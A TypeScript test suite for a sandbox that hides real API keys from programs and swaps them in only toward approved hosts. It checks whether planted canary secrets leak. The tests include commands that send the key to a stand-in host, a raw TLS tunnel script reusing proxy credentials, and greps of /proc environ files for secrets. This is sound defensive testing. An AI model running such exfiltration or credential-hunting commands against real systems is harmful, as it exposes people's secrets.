// Keys of hidden files in held calls: real programs use them towards a played server, which gets the true ones, and nothing inside does.
import { createHash } from "node:crypto";
import { createServer, type Server } from "node:https";
import type { IncomingMessage, ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { createSecureContext } from "node:tls";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { Effect } from "#guard/vocabulary/effect.ts";
import type { KeyUse } from "#guard/facts/key-use.ts";
import { WHY_NOT_HELD } from "../../../../holding.ts";
import { testAuthority } from "../../gateway/gateway-stand.ts";
import { heldMachine, type HeldMachine, type HeldRun } from "../held.ts";

const STRIPE = "api.stripe.com";
const OWN = "api.acme.test";
const SLACK = "hooks.slack.com";
const OTHER = "other.test";
/** Nobody vouches for it. */
const FALSE = "api.openai.com";
const HOSTS = [STRIPE, OWN, SLACK, OTHER, FALSE];
const NAMES = Object.fromEntries(HOSTS.map((host, at) => [host, `203.0.113.${at + 1}`]));

const MARK = "CanaryHqLy";
const KEY = ["sk", "live", `51${MARK}jWDarjtT1zdp`].join("_");
const PASSWORD = `${MARK}-Xk42-long-enough`;
const HOOK = `/services/T0A1B2C3D/B0A1B2C3D/${MARK}0123456789Ab`;
const OPENAI = ["sk", "proj", `${MARK}${"aB3".repeat(7)}T3BlbkFJ${"xY9".repeat(8)}`].join("-");

type Seen = Pick<IncomingMessage, "method" | "url" | "headers"> & { readonly body: string };

/** What a program in the call can do with TLS by itself: a request as it is written, in a tunnel of its proxy. */
const RAW = `const net = require("node:net"), tls = require("node:tls");
const [host, servername, text] = process.argv.slice(2);
const proxy = new URL(process.env.HTTPS_PROXY);
const login = "Basic " + Buffer.from(proxy.username + ":" + proxy.password).toString("base64");
const socket = net.connect(Number(proxy.port), "127.0.0.1");
socket.write("CONNECT " + host + ":443 HTTP/1.1\\r\\nHost: " + host + ":443\\r\\nProxy-Authorization: " + login + "\\r\\n\\r\\n");
socket.once("data", () => {
  const inner = tls.connect({ socket, servername, ALPNProtocols: ["h2", "http/1.1"] });
  inner.on("secureConnect", () => {
    const { issuer } = inner.getPeerCertificate();
    console.log("issuer:" + issuer.CN.replace(/ .*/, ""), "alpn:" + inner.alpnProtocol);
    inner.write(JSON.parse('"' + text + '"').replaceAll("$KEY", process.env.STRIPE_KEY ?? ""));
  });
  inner.on("data", (part) => process.stdout.write(part));
  inner.on("error", (error) => console.log("error:" + error.code)).on("close", () => process.exit());
});`;

const FETCHED = `import os, urllib.request
asked = urllib.request.Request("https://${STRIPE}/v1/python", headers={"Authorization": "Bearer " + os.environ["STRIPE_KEY"]})
print(urllib.request.urlopen(asked).read().decode())`;

describe("a key of a held call", () => {
  let machine: HeldMachine;
  let server: Server;
  const seen: Seen[] = [];
  let answer: (request: IncomingMessage, response: ServerResponse) => void;

  beforeAll(async () => {
    if (WHY_NOT_HELD !== undefined) return;
    const authority = testAuthority(HOSTS);
    const nobody = testAuthority(HOSTS);
    const contextOf = (host: string) => {
      const { certificate: cert, key } = (host === FALSE ? nobody : authority).leafFor(host);
      return createSecureContext({ cert, key });
    };
    server = createServer({ SNICallback: (name, done) => done(null, contextOf(name)) });
    server.on("request", (request, response) => {
      const parts: Buffer[] = [];
      request.on("data", (part: Buffer) => parts.push(part));
      request.on("end", () => {
        const { headers, method, url } = request;
        seen.push({ headers, method, url, body: Buffer.concat(parts).toString() });
        answer(request, response);
      });
    });
    server.on("upgrade", (request, socket) => {
      const { headers, method, url } = request;
      seen.push({ headers, method, url, body: "" });
      const digest = createHash("sha1")
        .update(`${headers["sec-websocket-key"]}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
        .digest("base64");
      const text = Buffer.from(`you are ${headers.authorization}`);
      socket.write(
        `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${digest}\r\nX-Said: ${headers.authorization}\r\n\r\n`,
      );
      socket.write(Buffer.from([0x81, text.length, ...text.subarray(0, 20)]));
      // It waits for a message, so that nothing may be kept back for long.
      socket.write(text.subarray(20));
      socket.once("data", () => socket.end());
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const registry = {
      port: (server.address() as AddressInfo).port,
      authority: authority.certificate,
    };
    machine = await heldMachine({ names: NAMES, registry });
    machine.file(".claude/none", "");
    machine.file(
      join(machine.project, ".env"),
      `STRIPE_KEY=${KEY}\nOPENAI_API_KEY="${OPENAI}"\nHOOK=https://${SLACK}${HOOK}\n`,
    );
    machine.file(
      join(machine.home, ".netrc"),
      `machine ${OWN}\n  login me\n  password ${PASSWORD}\n`,
    );
    machine.file(join(machine.project, "raw.cjs"), RAW);
    machine.file(join(machine.project, "fetched.py"), FETCHED);
  });
  afterAll(async () => {
    await machine?.remove();
    server?.closeAllConnections();
    server?.close();
  });
  beforeEach((ctx) => {
    const why = WHY_NOT_HELD ?? machine.trouble;
    if (why !== undefined) ctx.skip(why);
    seen.length = 0;
    answer = (request, response) => response.end(`you are ${request.headers.authorization}\n`);
  });

  const use = (name: string, host: string, kind: KeyUse["kind"] = "key"): KeyUse => ({
    name,
    host,
    kind,
    file: join(
      kind === "login" ? machine.home : machine.project,
      kind === "login" ? ".netrc" : ".env",
    ),
  });
  const asks = (host: string): Effect => ({
    kind: "egress",
    destination: { host, port: undefined, scheme: "https" },
    carries: [],
    via: ["curl"],
    at: undefined,
  });
  const run = async (
    command: string,
    more: Partial<Parameters<HeldMachine["run"]>[0]> = {},
  ): Promise<HeldRun> => {
    const ran = await machine.run({
      command: `set -a; . ./.env; set +a; ${command}`,
      effects: [asks(STRIPE)],
      keys: [use("STRIPE_KEY", STRIPE)],
      isApproved: true,
      ...more,
    });
    expect(ran.kind, ran.why).toBe("held");
    // Nothing inside has seen a true value, whatever the server did.
    expect(ran.said + ran.complained).not.toContain(MARK);
    return ran;
  };
  // WHY without a look at the certificate: where the tunnel is not ended, the played authority is nobody's.
  const CHARGES = `curl -sSk -H "Authorization: Bearer $STRIPE_KEY" https://${STRIPE}/v1/charges`;
  const authorizations = () => seen.map(({ headers }) => headers.authorization);

  test("works towards its own host, and is told of by its name", async () => {
    const ran = await run(CHARGES);
    expect(authorizations()).toEqual([`Bearer ${KEY}`]);
    expect([ran.complained, ran.status]).toEqual(["", 0]);
    expect(ran.said).toMatch(/^you are Bearer sk_live_\w{24}\n$/);
    expect(ran.exchanged).toEqual([{ ...use("STRIPE_KEY", STRIPE), requests: 1 }]);
  });

  test("works as a user, and for python and a program of node", async () => {
    await run(`curl -sS -u "$STRIPE_KEY:" -d a=1 https://${STRIPE}/v1/a`);
    await run("/usr/bin/python3 fetched.py");
    const ran = await run(
      `node raw.cjs ${STRIPE} ${STRIPE} 'GET / HTTP/1.1\\r\\nHost: ${STRIPE}\\r\\nAuthorization: Bearer $KEY\\r\\nConnection: close\\r\\n\\r\\n'`,
    );
    expect(authorizations()).toEqual([
      `Basic ${Buffer.from(`${KEY}:`).toString("base64")}`,
      `Bearer ${KEY}`,
      `Bearer ${KEY}`,
    ]);
    expect(seen[0]?.body).toBe("a=1");
    expect(ran.said).toContain("issuer:sallyport alpn:http/1.1");
  });

  test("is a login of the person's for the machine that they name", async () => {
    const ran = await run(`curl -sS -n https://${OWN}/x`, {
      effects: [asks(OWN)],
      keys: [use(OWN, OWN, "login")],
    });
    expect(authorizations()).toEqual([`Basic ${Buffer.from(`me:${PASSWORD}`).toString("base64")}`]);
    const [, login = ""] = /you are Basic (\S+)/.exec(ran.said) ?? [];
    expect(Buffer.from(login, "base64").toString("latin1")).toMatch(/^me:(?!Canary)/);
  });

  test("is an address that is secret itself", async () => {
    const asked = { effects: [asks(SLACK)], keys: [use("HOOK", SLACK, "address")] };
    answer = (request, response) => response.end(request.url);
    const ran = await run(`curl -sS -d '{"text":"hi"}' "$HOOK"; curl -sS "$HOOK/more?a=1"`, asked);
    expect(seen.map(({ url }) => url)).toEqual([HOOK, `${HOOK}/more?a=1`]);
    expect(ran.exchanged).toEqual([{ ...use("HOOK", SLACK, "address"), requests: 2 }]);
  });

  test.each<[string, (request: IncomingMessage, response: ServerResponse) => void]>([
    [
      "a byte at a time",
      ({ headers }, response) => {
        response.writeHead(200, { "x-said": headers.authorization ?? "" });
        for (const sign of `<${headers.authorization}>`) response.write(sign);
        response.end();
      },
    ],
    [
      "packed, though it was asked not to",
      ({ headers }, response) => {
        expect(headers["accept-encoding"]).toBe("identity");
        const packed = gzipSync(`${headers.authorization}`);
        response.writeHead(200, { "content-encoding": "gzip", "content-length": packed.length });
        response.end(packed);
      },
    ],
    [
      "in base64 and hexadecimal",
      ({ headers }, response) => {
        const said = Buffer.from(`{"who":"${headers.authorization}"}`);
        response.end(`${said.toString("base64")} ${said.toString("hex")}`);
      },
    ],
    [
      "as an address elsewhere",
      ({ headers }, response) =>
        response
          .writeHead(302, { location: `https://${OTHER}/?k=${headers.authorization?.slice(7)}` })
          .end(),
    ],
  ])("does not come in again when its host says it %s", async (_how, said) => {
    answer = said;
    const ran = await run(
      `curl -sSi --compressed -L -r 0-3 -H "Authorization: Bearer $STRIPE_KEY" https://${STRIPE}/v1/charges`,
      { effects: [asks(STRIPE), asks(OTHER)] },
    );
    expect(authorizations()[0]).toBe(`Bearer ${KEY}`);
    expect(seen[0]?.headers.range).toBeUndefined();
    // To the other host the made-up value goes.
    expect(JSON.stringify(seen.slice(1))).not.toContain(MARK);
    const bytes = ran.said.match(/[A-Za-z0-9+/=]{24,}/g) ?? [];
    const read = bytes.flatMap((one) => [
      Buffer.from(one, "base64").toString("latin1"),
      Buffer.from(one, "hex").toString("latin1"),
    ]);
    expect(read.join(" ")).not.toContain(MARK);
  });

  test("stays made up for other hosts, in bodies, other headers and paths, and in a tunnel of its own", async () => {
    const ran = await run(
      `K="$STRIPE_KEY"; curl -sS -H "Authorization: Bearer $K" https://${OTHER}/; curl -sS -d "key=$K" -H "X-Note: $K" -H "User-Agent: $K" "https://${STRIPE}/v1/$K?k=$K"; node raw.cjs ${OTHER} ${OTHER} 'GET / HTTP/1.1\\r\\nHost: ${STRIPE}\\r\\nAuthorization: Bearer $KEY\\r\\nConnection: close\\r\\n\\r\\n'`,
      { effects: [asks(STRIPE), asks(OTHER)] },
    );
    expect(seen).toHaveLength(3);
    expect(JSON.stringify(seen)).not.toContain(MARK);
    expect(seen[1]?.body).toMatch(/^key=sk_live_\w{24}$/);
    // Whoever pins the certificate of another host finds it as it is.
    expect(ran.said).toContain("issuer:test");
    expect(ran.exchanged).toEqual([]);
  });

  test.each([
    ["nobody approved the call", {}],
    ["the question named another key", { isApproved: true, keys: [] }],
  ] as const)("stays made up where %s", async (_why, { ...more }) => {
    const ran = await run(CHARGES, { isApproved: undefined, ...more } as object);
    expect(authorizations()).toEqual([expect.stringMatching(/^Bearer sk_live_\w{24}$/)]);
    expect(JSON.stringify(seen)).not.toContain(MARK);
    expect(ran.exchanged).toEqual([]);
  });

  test("goes to nobody whose certificate is not that of the host", async () => {
    const asked = { effects: [asks(FALSE)], keys: [use("OPENAI_API_KEY", FALSE)] };
    const ran = await run(
      `curl -sS -H "Authorization: Bearer $OPENAI_API_KEY" https://${FALSE}/v1/models`,
      asked,
    );
    expect(seen).toEqual([]);
    expect(ran.said).toContain("certificate of the host could not be verified");
  });

  test("is put in for no other name, and by no older protocol", async () => {
    const ran = await run(
      [
        `node raw.cjs ${STRIPE} ${OTHER} x`,
        `node raw.cjs ${STRIPE} ${STRIPE} 'GET / HTTP/1.1\\r\\nHost: ${OTHER}\\r\\nAuthorization: Bearer $KEY\\r\\n\\r\\n'`,
        `node raw.cjs ${STRIPE} ${STRIPE} 'TRACE / HTTP/1.1\\r\\nHost: ${STRIPE}\\r\\nAuthorization: Bearer $KEY\\r\\n\\r\\n'`,
        `node raw.cjs ${STRIPE} ${STRIPE} 'GET / HTTP/1.0\\r\\nHost: ${STRIPE}\\r\\nAuthorization: Bearer $KEY\\r\\n\\r\\n'`,
      ].join("; "),
    );
    expect(seen).toEqual([]);
    expect(ran.said).toMatch(/^error:/);
    expect(ran.said.match(/HTTP\/1.1 \d+/g)).toEqual([
      "HTTP/1.1 400",
      "HTTP/1.1 403",
      "HTTP/1.1 400",
    ]);
  });

  test("opens a WebSocket, whose frames come in without it and without delay", async () => {
    const ran = await run(
      `node raw.cjs ${STRIPE} ${STRIPE} 'GET /ws HTTP/1.1\\r\\nHost: ${STRIPE}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Extensions: permessage-deflate\\r\\nAuthorization: Bearer $KEY\\r\\n\\r\\n\\u0081\\u0080AAAA'`,
    );
    expect(authorizations()).toEqual([`Bearer ${KEY}`]);
    expect(seen[0]?.headers["sec-websocket-extensions"]).toBeUndefined();
    expect(ran.said).toContain("101 Switching Protocols");
    expect(ran.said).toContain("s3pPLMBiTxaQ9kYGzzhZRbK+xOo=");
    expect(ran.said).toMatch(/you are Bearer sk_live_\w{24}/);
  });

  test("is that of one call: another one beside it has none, and nothing of it lies anywhere", async () => {
    const looks = `grep -rlsa '[C]anaryHqLy' /run /tmp /dev/shm "$HOME" . /proc/[0-9]*/environ /proc/[0-9]*/cmdline; `;
    const [one, other] = await Promise.all([
      run(`${looks}${CHARGES}`, { session: "one" }),
      run(`${looks}${CHARGES}`, { session: "one", isApproved: undefined } as object),
    ]);
    const sent = authorizations();
    expect(sent.filter((value) => value === `Bearer ${KEY}`)).toHaveLength(1);
    expect(sent).toHaveLength(2);
    for (const { said } of [one, other]) expect(said).toMatch(/^you are Bearer sk_live_\w+\n$/);
    expect([one.exchanged?.length, other.exchanged?.length]).toEqual([1, 0]);
  });
});
